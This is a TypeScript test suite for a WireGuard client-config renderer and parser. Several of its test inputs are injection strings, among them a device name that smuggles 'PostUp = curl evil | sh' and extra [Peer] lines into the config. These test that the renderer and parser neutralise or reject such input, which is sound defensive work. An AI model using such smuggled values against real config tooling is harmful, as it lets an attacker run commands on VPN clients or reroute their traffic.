import { describe, expect, it } from 'vitest'
import { isKeygateError } from '../../../src/core/errors.ts'
import { generateKeyPair } from '../../../src/core/peers/keys.ts'
import {
  fillPrivateKey,
  MAX_COMMENT_LENGTH,
  PRIVATE_KEY_PLACEHOLDER,
  parseWireGuardConfig,
  renderClientConfig,
  sanitizeComment,
  stripWgQuickFields,
} from '../../../src/core/peers/wg-config.ts'
import { thrownBy } from '../../support/refusal.ts'

const random = (n: number) => crypto.getRandomValues(new Uint8Array(n))
const gateway = generateKeyPair(random).publicKey
const psk = generateKeyPair(random).privateKey

function baseInput() {
  return {
    addresses: ['100.96.0.5/32', 'fd7a:115c:a1e0::5/128'],
    dns: ['10.10.0.53'],
    peers: [
      {
        publicKey: gateway,
        presharedKey: psk,
        endpoint: 'eu-1.vpn.example.com:51820',
        allowedIps: ['10.10.0.0/16', '100.96.0.1/32'],
        persistentKeepalive: 25,
        name: 'eu-1',
      },
    ],
  }
}

function codeOf(fn: () => unknown): string | undefined {
  try {
    fn()
    return undefined
  } catch (error) {
    return isKeygateError(error) ? error.code : 'not a KeygateError'
  }
}

describe('renderClientConfig', () => {
  it('renders a wg-quick file with a placeholder and one [Peer] per gateway', () => {
    const text = renderClientConfig({ ...baseInput(), name: 'laptop' })
    expect(text).toContain(`PrivateKey = ${PRIVATE_KEY_PLACEHOLDER}\n`)
    expect(text).toContain('Address = 100.96.0.5/32, fd7a:115c:a1e0::5/128\n')
    expect(text).toContain(
      `PublicKey = ${gateway}\nPresharedKey = ${psk}\nEndpoint = eu-1.vpn.example.com:51820\n`,
    )
    expect(text).toContain('AllowedIPs = 10.10.0.0/16, 100.96.0.1/32\nPersistentKeepalive = 25\n')
    const parsed = parseWireGuardConfig(text, { allowPlaceholder: true })
    expect(parsed.peers).toHaveLength(1)
    expect(parsed.interface.dns).toEqual(['10.10.0.53'])
    expect(parsed.comments).toContain('Device: laptop')
  })

  it.each([
    'evil\n[Peer]\nPublicKey = AAAA\nAllowedIPs = 0.0.0.0/0',
    'evil\r\nPostUp = curl evil | sh',
    'evil\u2028[Peer]\u2029AllowedIPs = 0.0.0.0/0',
    'evil\u0085PostUp = x\u000bDNS = 1.1.1.1\u000c',
    'evil\u202e\u200b\u0000\u001b[31m',
    '\n\n\n',
  ])('a device name cannot add a line: %j', (name) => {
    const plain = renderClientConfig(baseInput())
    const text = renderClientConfig({ ...baseInput(), name })
    const lineCount = (t: string) => t.split('\n').length
    expect(lineCount(text)).toBeLessThanOrEqual(lineCount(plain) + 1)
    const parsed = parseWireGuardConfig(text, { allowPlaceholder: true })
    expect(parsed.peers).toHaveLength(1)
    expect(parsed.peers[0]!.allowedIps).toEqual(['10.10.0.0/16', '100.96.0.1/32'])
    expect(parsed.interface.extra).toEqual({})
    expect(parsed.interface.dns).toEqual(['10.10.0.53'])
    // The only line that differs is one comment line.
    const added = text.split('\n').filter((line) => !plain.split('\n').includes(line))
    expect(added.every((line) => line.startsWith('# Device: '))).toBe(true)
    const forbidden = [
      '\r',
      '\u0085',
      '\u2028',
      '\u2029',
      '\u000b',
      '\u000c',
      '\u0000',
      '\u001b',
      '\u202e',
      '\u200b',
    ]
    expect(forbidden.filter((c) => text.includes(c))).toEqual([])
  })

  it('caps a long name', () => {
    const text = renderClientConfig({ ...baseInput(), name: 'x'.repeat(10_000) })
    expect(text.split('\n').find((l) => l.startsWith('# Device: '))!.length).toBeLessThanOrEqual(10 + 64)
  })

  it.each([
    [
      'a public key with a newline',
      { peers: [{ ...baseInput().peers[0]!, publicKey: `${gateway}\nPostUp = x` }] },
    ],
    ['a low-order public key', { peers: [{ ...baseInput().peers[0]!, publicKey: `${'A'.repeat(43)}=` }] }],
    ['a preshared key with a newline', { peers: [{ ...baseInput().peers[0]!, presharedKey: `${psk}\n` }] }],
    [
      'an endpoint with a newline',
      { peers: [{ ...baseInput().peers[0]!, endpoint: 'a.example:1\n[Peer]' }] },
    ],
    ['an endpoint without a port', { peers: [{ ...baseInput().peers[0]!, endpoint: 'a.example' }] }],
    ['an endpoint with port 0', { peers: [{ ...baseInput().peers[0]!, endpoint: 'a.example:0' }] }],
    [
      'an allowed IP with a comma',
      { peers: [{ ...baseInput().peers[0]!, allowedIps: ['10.0.0.0/8, 0.0.0.0/0'] }] },
    ],
    [
      'an allowed IP prefix out of range',
      { peers: [{ ...baseInput().peers[0]!, allowedIps: ['10.0.0.0/33'] }] },
    ],
    ['no allowed IPs', { peers: [{ ...baseInput().peers[0]!, allowedIps: [] }] }],
    ['an address with a newline', { addresses: ['100.96.0.5/32\nDNS = 1.1.1.1'] }],
    ['no addresses', { addresses: [] }],
    ['a DNS entry with a space', { dns: ['10.0.0.1 evil'] }],
    ['a keepalive out of range', { peers: [{ ...baseInput().peers[0]!, persistentKeepalive: 70_000 }] }],
    ['a placeholder with a newline', { privateKeyPlaceholder: 'X\n[Peer]' }],
  ])('rejects %s', (_name, override) => {
    const code = codeOf(() => renderClientConfig({ ...baseInput(), ...override }))
    expect(['CONFIG_INVALID', 'INVALID_PUBLIC_KEY']).toContain(code)
  })

  it('fills the private key and refuses a key that is not one', () => {
    const text = renderClientConfig(baseInput())
    const key = generateKeyPair(random).privateKey
    const filled = fillPrivateKey(text, key)
    expect(parseWireGuardConfig(filled).interface.privateKey).toBe(key)
    expect(codeOf(() => fillPrivateKey(text, `${key}\nPostUp = x`))).toBe('CONFIG_INVALID')
  })
})

describe('stripWgQuickFields', () => {
  it('leaves what wg setconf accepts', () => {
    const key = generateKeyPair(random).privateKey
    const text = [
      '[Interface]',
      `PrivateKey = ${key}`,
      'Address = 100.96.0.5/32',
      'dns = 10.0.0.53',
      'MTU = 1380',
      'Table = off',
      'PreUp = echo a',
      'PostUp = echo b # c',
      'PreDown = echo d',
      'PostDown = echo e',
      'SaveConfig = true',
      'ListenPort = 51820',
      '',
      '[Peer]',
      `PublicKey = ${gateway}`,
      'AllowedIPs = 10.0.0.0/8',
      'Endpoint = 192.0.2.1:51820',
    ].join('\n')
    const stripped = stripWgQuickFields(text)
    // Matched as keys at a line's start: a random base64 key may well contain "dns" or "mtu".
    expect(stripped).not.toMatch(/^(Address|dns|MTU|Table|PreUp|PostUp|PreDown|PostDown|SaveConfig) =/im)
    const parsed = parseWireGuardConfig(stripped)
    expect(parsed.interface.listenPort).toBe(51820)
    expect(parsed.interface.addresses).toEqual([])
    expect(parsed.peers[0]!.endpoint).toBe('192.0.2.1:51820')
  })
})

describe('parseWireGuardConfig', () => {
  it.each([
    ['unknown key', '[Interface]\nPrivateKey = X\nBogus = 1'],
    ['two interfaces', '[Interface]\n[Interface]'],
    ['unknown section', '[Server]'],
    ['key outside a section', 'PrivateKey = X'],
    [
      'repeated PublicKey',
      `[Interface]\nPrivateKey = ${psk}\n[Peer]\nPublicKey = ${gateway}\nPublicKey = ${gateway}`,
    ],
    [
      'bad allowed IP',
      `[Interface]\nPrivateKey = ${psk}\n[Peer]\nPublicKey = ${gateway}\nAllowedIPs = 10.0.0.0/99`,
    ],
    ['missing private key', '[Interface]\nListenPort = 1'],
    ['the placeholder when not allowed', `[Interface]\nPrivateKey = ${PRIVATE_KEY_PLACEHOLDER}`],
  ])('rejects %s', (_name, text) => {
    expect(codeOf(() => parseWireGuardConfig(text))).toBe('CONFIG_INVALID')
  })
})

// Fixed keys, so the rendered text can be compared whole.
const GW1 = generateKeyPair(() => new Uint8Array(32).fill(1)).publicKey
const GW2 = generateKeyPair(() => new Uint8Array(32).fill(2)).publicKey
const PSK = generateKeyPair(() => new Uint8Array(32).fill(3)).privateKey
const CLIENT_KEY = generateKeyPair(() => new Uint8Array(32).fill(4)).privateKey

describe('sanitizeComment', () => {
  it.each([
    ['plain text stays', 'laptop', 'laptop'],
    ['controls become spaces and runs one space', 'a\u0000b\t\t c\r\nd', 'a b c d'],
    ['format, private-use, unassigned and lone surrogates go', '\uD800x\u0378y\uE000z\u200bw', 'x y z w'],
    ['line and paragraph separators go', 'a\u2028b\u2029c', 'a b c'],
    ['the ends are trimmed', '  \u0085 mid \u000b ', 'mid'],
    ['only separators leave nothing', '\n\r\u2028 ', ''],
  ])('%s', (_name, input, expected) => {
    expect(sanitizeComment(input)).toBe(expected)
  })

  it('keeps MAX_COMMENT_LENGTH characters, counting code points, not UTF-16 units', () => {
    expect(MAX_COMMENT_LENGTH).toBe(64)
    expect(sanitizeComment('x'.repeat(65))).toBe('x'.repeat(64))
    expect(sanitizeComment('x'.repeat(64))).toBe('x'.repeat(64))
    expect(sanitizeComment('😀'.repeat(70))).toBe('😀'.repeat(64))
  })

  it('trims a space left at the cut', () => {
    expect(sanitizeComment(`${'x'.repeat(63)} yz`)).toBe('x'.repeat(63))
  })

  it('trims before cutting, so leading spaces do not take room', () => {
    expect(sanitizeComment(`  \u0000${'x'.repeat(64)}`)).toBe('x'.repeat(64))
  })
})

describe('renderClientConfig, exactly', () => {
  const twoPeers = {
    addresses: ['100.96.0.5/16', 'fd7a:115c:a1e0::5'],
    dns: ['10.10.0.53', 'corp.example'],
    name: '  Ada\u0000s  laptop ',
    peers: [
      {
        publicKey: GW1,
        presharedKey: PSK,
        endpoint: 'eu-1.vpn.example.com:51820',
        allowedIps: ['10.10.1.2/16', 'FD00:0:0:0:0:0:0:1/64'],
        persistentKeepalive: 25,
        name: 'eu\n1',
      },
      { publicKey: GW2, presharedKey: null, endpoint: '[fd00::2]:443', allowedIps: ['0.0.0.0/0'] },
    ],
  }

  it('writes the header, the interface and each peer in order, canonicalising allowed IPs', () => {
    expect(renderClientConfig(twoPeers)).toBe(
      [
        '# Keygate: short-lived WireGuard access. Sign in again when it expires.',
        '# Device: Ada s laptop',
        '[Interface]',
        `PrivateKey = ${PRIVATE_KEY_PLACEHOLDER}`,
        'Address = 100.96.0.5/16, fd7a:115c:a1e0::5',
        'DNS = 10.10.0.53, corp.example',
        '',
        '# Gateway: eu 1',
        '[Peer]',
        `PublicKey = ${GW1}`,
        `PresharedKey = ${PSK}`,
        'Endpoint = eu-1.vpn.example.com:51820',
        'AllowedIPs = 10.10.0.0/16, fd00::/64',
        'PersistentKeepalive = 25',
        '',
        '[Peer]',
        `PublicKey = ${GW2}`,
        'Endpoint = [fd00::2]:443',
        'AllowedIPs = 0.0.0.0/0',
        '',
      ].join('\n'),
    )
  })

  it('leaves out the device line, DNS and keepalive when there are none', () => {
    expect(
      renderClientConfig({
        addresses: ['100.96.0.5/32'],
        dns: [],
        name: '\u200b\n',
        privateKeyPlaceholder: '<KEY>',
        peers: [
          {
            publicKey: GW1,
            endpoint: '192.0.2.1:51820',
            allowedIps: ['10.0.0.0/8'],
            persistentKeepalive: 0,
            name: ' ',
          },
        ],
      }),
    ).toBe(
      [
        '# Keygate: short-lived WireGuard access. Sign in again when it expires.',
        '[Interface]',
        'PrivateKey = <KEY>',
        'Address = 100.96.0.5/32',
        '',
        '[Peer]',
        `PublicKey = ${GW1}`,
        'Endpoint = 192.0.2.1:51820',
        'AllowedIPs = 10.0.0.0/8',
        '',
      ].join('\n'),
    )
  })

  it('renders a config with no peers at all', () => {
    expect(renderClientConfig({ addresses: ['100.96.0.5'], dns: [], peers: [] })).toBe(
      [
        '# Keygate: short-lived WireGuard access. Sign in again when it expires.',
        '[Interface]',
        `PrivateKey = ${PRIVATE_KEY_PLACEHOLDER}`,
        'Address = 100.96.0.5',
        '',
      ].join('\n'),
    )
  })

  it.each([
    ['1', true],
    ['65535', true],
    ['65536', false],
    ['-1', false],
    ['1.5', false],
  ])('a keepalive of %s is accepted: %s', (value, ok) => {
    const input = { ...twoPeers, peers: [{ ...twoPeers.peers[0]!, persistentKeepalive: Number(value) }] }
    if (ok) expect(renderClientConfig(input)).toContain(`\nPersistentKeepalive = ${value}\n`)
    else
      expect(thrownBy(() => renderClientConfig(input))).toEqual({
        code: 'CONFIG_INVALID',
        message: 'Peer 1 has a keepalive outside 0-65535',
      })
  })

  it.each([
    ['a'.repeat(64), true],
    ['a'.repeat(65), false],
    ['', false],
    ['A-z_0.9{}<>', true],
    ['key=', false],
  ])('a placeholder %j is accepted: %s', (placeholder, ok) => {
    const render = () => renderClientConfig({ ...twoPeers, privateKeyPlaceholder: placeholder })
    if (ok) expect(render()).toContain(`\nPrivateKey = ${placeholder}\n`)
    else
      expect(thrownBy(render)).toEqual({
        code: 'CONFIG_INVALID',
        message: 'The private key placeholder has characters outside [A-Za-z0-9_{}<>.-]',
      })
  })

  const peer = (over: Record<string, unknown>) => ({
    peers: [twoPeers.peers[1]!, { ...twoPeers.peers[0]!, ...over }],
  })
  it.each([
    [{ addresses: [] }, 'A client config needs at least one address'],
    [{ addresses: ['100.96.0.5/33'] }, 'An interface address is not an IP address'],
    [{ addresses: [5] }, 'An interface address is not an IP address'],
    [{ dns: ['10.0.0.1 evil'] }, 'A DNS entry is neither an IP address nor a domain name'],
    [{ dns: [53] }, 'A DNS entry is neither an IP address nor a domain name'],
    [peer({ allowedIps: [] }), 'Peer 2 has no allowed IPs'],
    [peer({ allowedIps: ['10.0.0.0/8', 7] }), 'Peer 2 has an allowed IP that is not a CIDR prefix'],
    [
      peer({ allowedIps: ['10.0.0.0/8', '10.0.0.0/33'] }),
      'Peer 2 has an allowed IP that is not a CIDR prefix',
    ],
    [peer({ endpoint: 'a.example' }), 'Peer 2 has an endpoint that is not host:port'],
    [peer({ endpoint: 51820 }), 'Peer 2 has an endpoint that is not host:port'],
    [peer({ presharedKey: 'AAAA' }), "Peer 2's preshared key is not a 32-byte base64 WireGuard key"],
  ])('refuses %j: %s', (override, message) => {
    expect(thrownBy(() => renderClientConfig({ ...twoPeers, ...(override as object) }))).toEqual({
      code: 'CONFIG_INVALID',
      message,
    })
  })

  it("refuses a gateway's bad public key as INVALID_PUBLIC_KEY", () => {
    expect(thrownBy(() => renderClientConfig({ ...twoPeers, ...peer({ publicKey: 'AAAA' }) }))?.code).toBe(
      'INVALID_PUBLIC_KEY',
    )
  })
})

describe('fillPrivateKey, exactly', () => {
  const config = '[Interface]\nPrivateKey = {{PRIVATE_KEY}}\nAddress = 100.96.0.5/32\n'

  it('replaces the placeholder line and nothing else', () => {
    expect(fillPrivateKey(config, CLIENT_KEY)).toBe(
      `[Interface]\nPrivateKey = ${CLIENT_KEY}\nAddress = 100.96.0.5/32\n`,
    )
    expect(fillPrivateKey('PrivateKey = <K>\n# PrivateKey = <K> \n', CLIENT_KEY, '<K>')).toBe(
      `PrivateKey = ${CLIENT_KEY}\n# PrivateKey = <K> \n`,
    )
  })

  it('refuses a config without the placeholder line, and a key that is not one', () => {
    const missing = { code: 'CONFIG_INVALID', message: 'The config has no private key placeholder' }
    expect(thrownBy(() => fillPrivateKey('[Interface]\n', CLIENT_KEY))).toEqual(missing)
    expect(thrownBy(() => fillPrivateKey('PrivateKey = {{PRIVATE_KEY}} \n', CLIENT_KEY))).toEqual(missing)
    expect(thrownBy(() => fillPrivateKey(config, CLIENT_KEY, '<K>'))).toEqual(missing)
    expect(thrownBy(() => fillPrivateKey(config, 'AAAA'))).toEqual({
      code: 'CONFIG_INVALID',
      message: 'The private key is not a 32-byte base64 WireGuard key',
    })
  })
})

describe('stripWgQuickFields, exactly', () => {
  it('drops only the wg-quick keys, whatever their case and spacing, and keeps comments and the rest', () => {
    const text = [
      '# Address = kept, a comment',
      '[Interface]',
      `PrivateKey = ${CLIENT_KEY}`,
      'ADDRESS=100.96.0.5/32',
      '  Table =off # note',
      'SaveConfig = true',
      'FwMark = 1',
      'ListenPort = 51820 # DNS = 1.1.1.1',
      '',
      '[Peer]',
      `PublicKey = ${GW1}`,
    ].join('\n')
    expect(stripWgQuickFields(text)).toBe(
      [
        '# Address = kept, a comment',
        '[Interface]',
        `PrivateKey = ${CLIENT_KEY}`,
        'FwMark = 1',
        'ListenPort = 51820 # DNS = 1.1.1.1',
        '',
        '[Peer]',
        `PublicKey = ${GW1}`,
      ].join('\n'),
    )
  })
})

describe('parseWireGuardConfig, exactly', () => {
  it('reads every key, merging repeated lists and keeping hooks whole', () => {
    const text = [
      '# first',
      '[ interface ]',
      `privatekey=${CLIENT_KEY}`,
      'Address = 100.96.0.5/16,, fd7a:115c:a1e0::5',
      'Address = 100.97.0.5',
      '\tDNS = 10.0.0.53 , corp.example # resolver',
      'MTU = 1380',
      'ListenPort = 65535',
      'FwMark = 0x1234',
      'Table = off',
      'PostUp = echo a, b',
      'PostUp = echo c',
      'PreUp = x, y',
      'PreDown = y, z',
      'PostDown = z',
      'SaveConfig = false',
      '   ',
      '[PEER]   # gw',
      `PublicKey = ${GW1}`,
      `PresharedKey = ${PSK}`,
      'Endpoint = [fd00::2]:443',
      'AllowedIPs = 10.10.1.2/16, FD00::1/64',
      'AllowedIPs = 192.0.2.7',
      'PersistentKeepalive = 0',
      '[Peer]',
      `PublicKey = ${GW2}`,
    ].join('\r\n')
    expect(parseWireGuardConfig(text)).toEqual({
      interface: {
        privateKey: CLIENT_KEY,
        addresses: ['100.96.0.5/16', 'fd7a:115c:a1e0::5', '100.97.0.5'],
        dns: ['10.0.0.53', 'corp.example'],
        listenPort: 65535,
        mtu: 1380,
        extra: {
          table: ['off'],
          postup: ['echo a, b', 'echo c'],
          preup: ['x, y'],
          predown: ['y, z'],
          postdown: ['z'],
          saveconfig: ['false'],
        },
      },
      peers: [
        {
          publicKey: GW1,
          presharedKey: PSK,
          endpoint: '[fd00::2]:443',
          allowedIps: ['10.10.0.0/16', 'fd00::/64', '192.0.2.7/32'],
          persistentKeepalive: 0,
        },
        { publicKey: GW2, presharedKey: null, endpoint: null, allowedIps: [], persistentKeepalive: null },
      ],
      comments: ['first', 'resolver', 'gw'],
    })
  })

  it('gives null and empty lists for what is absent', () => {
    expect(parseWireGuardConfig(`[Interface]\nPrivateKey = ${CLIENT_KEY}\n`)).toEqual({
      interface: { privateKey: CLIENT_KEY, addresses: [], dns: [], listenPort: null, mtu: null, extra: {} },
      peers: [],
      comments: [],
    })
  })

  it('accepts the placeholder only when asked to', () => {
    const text = '[Interface]\nPrivateKey = <KEY>'
    expect(parseWireGuardConfig(text, { allowPlaceholder: true }).interface.privateKey).toBe('<KEY>')
    expect(thrownBy(() => parseWireGuardConfig(text))).toEqual({
      code: 'CONFIG_INVALID',
      message: 'line 2: invalid value for PrivateKey',
    })
    expect(
      thrownBy(() => parseWireGuardConfig('[Interface]\nPrivateKey = a b', { allowPlaceholder: true })),
    ).toEqual({
      code: 'CONFIG_INVALID',
      message: 'line 2: invalid value for PrivateKey',
    })
  })

  const head = `[Interface]\nPrivateKey = ${CLIENT_KEY}\n`
  const peerHead = `${head}[Peer]\nPublicKey = ${GW1}\n`
  it.each([
    ['[Interface]\nPrivateKey = X\x07', 'line 2: control character'],
    ['[Interface]\u0000', 'line 1: control character'],
    ['[Interface]\n[interface]', 'line 2: a second [Interface] section'],
    ['\n[Server]', 'line 2: unknown section [Server]'],
    ['[Interface\nPrivateKey = X', 'line 1: expected "Key = Value"'],
    ['x[Interface]', 'line 1: expected "Key = Value"'],
    ['[Interface]x', 'line 1: expected "Key = Value"'],
    ['[]', 'line 1: unknown section []'],
    ['[Interface]]', 'line 1: expected "Key = Value"'],
    [`${head}= 5`, 'line 3: expected "Key = Value"'],
    [`${head}ListenPort`, 'line 3: expected "Key = Value"'],
    ['ListenPort = 1', 'line 1: a key outside any section'],
    [`${head}Endpoint = 192.0.2.1:1`, 'line 3: unknown key Endpoint in [Interface]'],
    [`${peerHead}ListenPort = 1`, 'line 5: unknown key ListenPort in [Peer]'],
    [`${head}ListenPort = 1\nlistenport = 2`, 'line 4: repeated key listenport'],
    [`${head}MTU = 1\nMTU = 2`, 'line 4: repeated key MTU'],
    [`${head}Table = a\nTable = b`, 'line 4: repeated key Table'],
    [`${peerHead}Endpoint = 192.0.2.1:1\nEndpoint = 192.0.2.2:1`, 'line 6: repeated key Endpoint'],
    [`${head}ListenPort = 65536`, 'line 3: invalid value for ListenPort'],
    [`${head}ListenPort = 123456`, 'line 3: invalid value for ListenPort'],
    [`${head}ListenPort = -1`, 'line 3: invalid value for ListenPort'],
    [`${head}MTU = 1e3`, 'line 3: invalid value for MTU'],
    [`${peerHead}PersistentKeepalive = x`, 'line 5: invalid value for PersistentKeepalive'],
    [`${head}Address = 100.96.0.5/33`, 'line 3: invalid value for Address'],
    [`${head}DNS = 10.0.0.1, bad_name`, 'line 3: invalid value for DNS'],
    [`${peerHead}AllowedIPs = 10.0.0.0/8, 10.0.0.0/99`, 'line 5: invalid value for AllowedIPs'],
    [`${peerHead}Endpoint = 192.0.2.1`, 'line 5: invalid value for Endpoint'],
    [`${peerHead}PresharedKey = AAAA`, 'line 5: invalid value for PresharedKey'],
    [`${head}[Peer]\nPublicKey = ${'A'.repeat(43)}=`, 'line 4: invalid value for PublicKey'],
    ['# nothing\n', 'no [Interface] section'],
    ['[Interface]\nListenPort = 1', '[Interface] has no PrivateKey'],
    [`${peerHead}[Peer]\nEndpoint = 192.0.2.1:1`, '[Peer] 2 has no PublicKey'],
  ])('refuses %j: %s', (text, message) => {
    expect(thrownBy(() => parseWireGuardConfig(text))).toEqual({ code: 'CONFIG_INVALID', message })
  })
})
